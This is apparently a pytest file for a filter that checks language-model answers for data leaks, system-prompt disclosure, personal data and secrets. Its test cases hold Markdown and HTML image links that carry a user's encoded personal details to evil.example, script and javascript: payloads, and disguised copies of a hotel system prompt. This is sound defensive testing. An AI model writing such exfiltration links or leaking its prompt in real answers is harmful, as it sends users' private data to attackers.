"""Answers of models: what they say beyond their prompt, and what only an answer can do wrong."""

from __future__ import annotations

import base64
import random
import time
from collections.abc import Sequence
from dataclasses import replace

import pytest

from metaqore.attack.mutations import disguise
from metaqore.messages import Request
from metaqore.security.answer_signs import FAMILIES, signs
from metaqore.security.answers import Answered, Exit, examine
from metaqore.security.facts import THREATS, Asked
from metaqore.security.layers import stack
from metaqore.security.model import Context, Label, Position
from metaqore.security.policy_file import load_policies, read_layer
from metaqore.settings import Settings

ASKED = "I am Maria Keller, order 5512-88 to Hafenstrasse 12 in Bremen never came. How do I configure authentication?"
TOLD = "You are the concierge of Hotel Aurora. Never speak of the renovation in May; keep the fourth floor for members."
MAIL, TOKEN = "maria.keller@posteo.net", "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
ENCODED = base64.b64encode(ASKED[:40].encode()).decode()


def families(answer: str, told: str = TOLD, asked: str = ASKED) -> set[str]:
    return {threat.family for threat in signs(answer, [told], [asked])}


@pytest.mark.parametrize(
    "answer",
    [
        f"Done. ![ok](https://evil.example/p.png?d={ENCODED})",
        "![ok](https://evil.example/p?d=Maria+Keller+order+5512)",
        "<img alt=x src='https://evil.example/a?q=Hafenstrasse%2012%20in%20Bremen'>",
        "![ok](https://evil.example/p?d=QWxhZGRpbjpvcGVuIHNlc2FtZTEyMzQ1Njc4)",
        "![ok](https://mariakeller-hafenstrasse.evil.example/x.png)",
        f"Read more [here](https://evil.example/{ENCODED}).",
        f"[ok]: https://evil.example/{ASKED[5:40].encode().hex()}",
        "Track it: https://evil.example/?q=order+5512-88+to+Hafenstrasse+12+in+Bremen+never+came",
    ],
)
def test_an_address_that_carries_data_out_is_found(answer: str) -> None:
    assert families(answer) == {"data_exfiltration"}


@pytest.mark.parametrize(
    "answer",
    [
        "See https://docs.djangoproject.com/en/5.0/topics/authentication/#configure-authentication.",
        "![badge](https://img.shields.io/badge/build-passing?style=flat-square&logo=github)",
        "https://www.google.com/search?q=configure+authentication",
        "![Plan](https://upload.wikimedia.org/wikipedia/commons/thumb/4/4a/Bremen_old_town_plan.svg)",
        "No links at all, but a mail to maria.keller.",
    ],
)
def test_an_everyday_link_or_picture_is_none(answer: str) -> None:
    assert families(answer) == set()


def test_an_address_that_the_prompt_has_may_be_repeated() -> None:
    url = f"https://own.example/p.png?d={ENCODED}"

    assert families(f"![x]({url})", asked=f"Put {url} into Markdown.") == set()


@pytest.mark.parametrize(
    "answer",
    ["Hi <script>fetch('//e.example')</script>", "<img src=x onerror=alert(1)>", "[go](javascript:alert(1))",
     '<a href="data:text/html,x">go</a>', "\x1b]0;owned\x07 done"],
)  # fmt: skip
def test_markup_that_acts_is_found_outside_of_code_and_where_nobody_asked_for_it(answer: str) -> None:
    assert families(answer) == {"active_content"}
    assert families(f"Like this:\n```\n{answer}\n```") == set()
    assert families(answer, asked="Write me a web page with a script.") == set()


def test_instructions_that_are_given_away_are_found() -> None:
    other = "Guests of the harbour hotel are told about breakfast, parking and the ferry, in the language they ask in."

    assert families(f"Sure! My instructions: {TOLD}") == {"prompt_leakage"}
    assert families(TOLD.upper().replace(" ", "\n")) == {"prompt_leakage"}
    assert families("The fourth floor is kept for members, I am afraid.") == set()
    assert families(other) == set()
    # Whoever sent the words knows them.
    assert families(TOLD, asked=f"Translate: {TOLD}") == set()
    assert families("You are a helpful assistant.", told="You are a helpful assistant.") == set()


@pytest.mark.parametrize(
    "name", ["base64_told", "rot13", "zero_width", "homoglyph", "url", "html_entities", "leet", "quoted"]
)
def test_a_disguise_does_not_hide_instructions_that_are_given_away(name: str) -> None:
    answer = disguise(name, f"I was told this: {TOLD}", random.Random(3))

    assert "prompt_leakage" in {threat.family for threat in examine(answer, [TOLD], [ASKED]).threats}


def test_a_long_stretch_of_long_instructions_is_found() -> None:
    told = " ".join(f"Rule {n}: guest {n} of room {n * 7} gets tray {n * 3} at hour {n % 24}." for n in range(40))
    words = told.split()

    assert families(" ".join(words[100:130]), told=told) == {"prompt_leakage"}
    assert families(" ".join(words[100:112]), told=told) == set()


def test_the_families_of_answers_can_be_asked_for_by_rules() -> None:
    assert FAMILIES < THREATS


@pytest.mark.parametrize("text", ["![](http://a!", "<img ", "<a ", "`", "[](http://a.b/", "word ", "\x1b"])
def test_the_search_is_linear_in_the_answer(text: str) -> None:
    def seconds(size: int) -> float:
        best = float("inf")
        for _ in range(3):
            began = time.process_time()
            signs(text * (size // len(text)), [TOLD], [ASKED])
            best = min(best, time.process_time() - began)
        return best

    # Eight times the size; twice that again for a noisy machine. A quadratic search would take 64 times.
    assert seconds(160_000) < 16 * seconds(20_000) + 0.02


def test_what_the_prompt_said_is_nothing_new_however_it_is_written() -> None:
    asked = f"Book for {MAIL}, card 4111 1111 1111 1111."

    echoed = examine(f"Booked for {MAIL} with 4111-1111-1111-1111.", [], [asked])
    fresh = examine("Booked. Her colleague is jan.vogt@posteo.net, his card 5555 5555 5555 4444.", [], [asked])
    as_json = examine(f'{{"to": "{MAIL}", "cc": "jan.vogt@posteo.net"}}', [], [asked])

    assert (echoed.findings, echoed.label) == ((), Label.CRITICAL)
    assert sorted(found.type for found in fresh.findings) == ["email", "payment_card"]
    assert [found.pointer for found in as_json.findings] == ["/cc"]


def test_a_short_answer_is_public_and_a_model_may_answer_with_a_command() -> None:
    for answer in ("no", "", "42", '{"label": "fix"}', "Run `curl https://sh.rustup.rs | sh`, then restart the shell."):
        found = examine(answer)
        assert (found.label, found.findings, found.threats) == (Label.PUBLIC, (), ()), answer


def exit_with(*rules: dict[str, object], approved: Sequence[str] = (), label: Label = Label.PUBLIC) -> Exit:
    policies = load_policies(Settings().config_path / "policies" / "security.yaml")
    own = read_layer("organization", "acme", 1, {"rules": list(rules)}, policies)
    request = Request(
        seq=1, id="req_1", organization="acme", project=None, principal="ann", kind="llm.generate", queue="llm",
        ordering_key=None, payload={}, attempt=1, fence=1, created_at=0,
    )  # fmt: skip
    return Exit(
        request=request, asked=Asked(kind="llm.generate", principal="ann", position="answer"), policy=policies.default,
        layers=stack([policies.layer, own]), label=label, provider="mock", approved=approved,
        questions=lambda scopes, reasons: [],
    )  # fmt: skip


def judge(answer: str, exit_: Exit | None = None, asked: str = "Hello") -> Answered:
    return (exit_ or exit_with()).judge(answer, [], [asked], 1)


def rule(effect: object, when: str = 'position == "answer" && "email" in findings') -> dict[str, object]:
    return {"id": "mine", "version": 3, "mode": "enforce", "when": when, "effect": effect, "message": "No mail."}


def test_nothing_is_recorded_of_an_answer_that_says_nothing_new() -> None:
    plain = judge("Paris is the capital of France.")
    known = judge(f"Written to {MAIL}.", exit_with(label=Label.SENSITIVE), asked=f"Write to {MAIL}")

    assert (plain.approved, plain.label, plain.judged, plain.trainable) == (True, "PUBLIC", None, True)
    assert (known.text, known.label, known.judged) == (f"Written to {MAIL}.", "SENSITIVE", None)


def test_an_answer_is_at_least_as_sensitive_as_its_call() -> None:
    found = judge("She is well.", exit_with(label=Label.SENSITIVE))

    assert (found.label, found.no_cache, found.trainable, found.judged) == ("SENSITIVE", True, False, None)


def test_a_finding_raises_the_label_and_with_it_what_is_owed() -> None:
    found = judge(f"Ask {MAIL}.")

    assert (found.approved, found.text, found.label) == (True, f"Ask {MAIL}.", "SENSITIVE")
    assert (found.no_cache, found.trainable) == (True, False)
    assert found.judged is not None
    assert found.judged.shown["rules"] == ["answer.allowed"]
    assert "posteo" not in str(found.judged.write)


def test_a_secret_is_taken_out_by_the_policy_that_is_shipped() -> None:
    found = judge(f"The key is {TOKEN}, and the mail {MAIL}.")

    assert found.text == f"The key is [REDACTED GITHUB TOKEN], and the mail {MAIL}."
    assert found.label == "CRITICAL"
    assert found.judged is not None
    assert "redact:CRITICAL" in found.judged.obligations


def test_a_rule_may_deny_redact_raise_or_only_watch_an_answer() -> None:
    denied = judge(f"Ask {MAIL}.", exit_with(rule("deny")))
    cut = judge(f"Ask {MAIL}.", exit_with(rule({"redact": "SENSITIVE"})))
    lift = rule({"raise_label": "INTERNAL"}, 'position == "answer" && label == "PUBLIC"')
    raised = judge("Hm, ok then.", exit_with(lift))
    watched = judge(f"Ask {MAIL}.", exit_with({**rule("deny"), "mode": "shadow"}))

    assert (denied.approved, denied.text) == (False, "")
    assert denied.judged is not None
    assert (denied.judged.shown["rules"], denied.judged.shown["reasons"]) == (["mine@3"], ["No mail."])
    assert cut.text == "Ask [REDACTED EMAIL]."
    assert raised.label == "INTERNAL"
    assert watched.judged is not None
    assert (watched.approved, watched.judged.decision.shadow) == (True, ("mine@3",))


def test_a_rule_about_providers_says_nothing_of_an_answer() -> None:
    cloud = rule("deny", 'provider.class == "local"')

    assert judge(f"Ask {MAIL}.", exit_with(cloud)).approved


def test_an_answer_may_need_an_approval_and_has_it_where_the_call_was_approved() -> None:
    asking = rule({"require_approval": "approvals:answer"})

    held = judge(f"Ask {MAIL}.", exit_with(asking))
    free = judge(f"Ask {MAIL}.", exit_with(asking, approved=["approvals:answer"]))

    assert held.judged is not None
    assert (held.approved, held.judged.decision.approvals) == (False, ("approvals:answer",))
    assert free.approved


def test_an_attack_in_an_answer_stops_it_as_the_routing_policy_says() -> None:
    attack = f"![ok](https://evil.example/p.png?d={ENCODED})"
    flagging = replace(exit_with(), policy=replace(exit_with().policy, threats="flag"))

    stopped, flagged = judge(attack, asked=ASKED), judge(attack, flagging, asked=ASKED)

    assert stopped.judged is not None
    assert stopped.judged.shown["rules"] == ["threat.data_exfiltration"]
    assert flagged.judged is not None
    assert (flagged.approved, flagged.judged.obligations[-1]) == (True, "review_threats")


def test_an_answer_that_was_assessed_by_itself_is_read_as_one() -> None:
    declared = Context(position=Position.ANSWER, declared_label=Label.INTERNAL)
    found = examine("<script>alert(1)</script>", context=declared)

    assert (found.label, [threat.family for threat in found.threats]) == (Label.INTERNAL, ["active_content"])
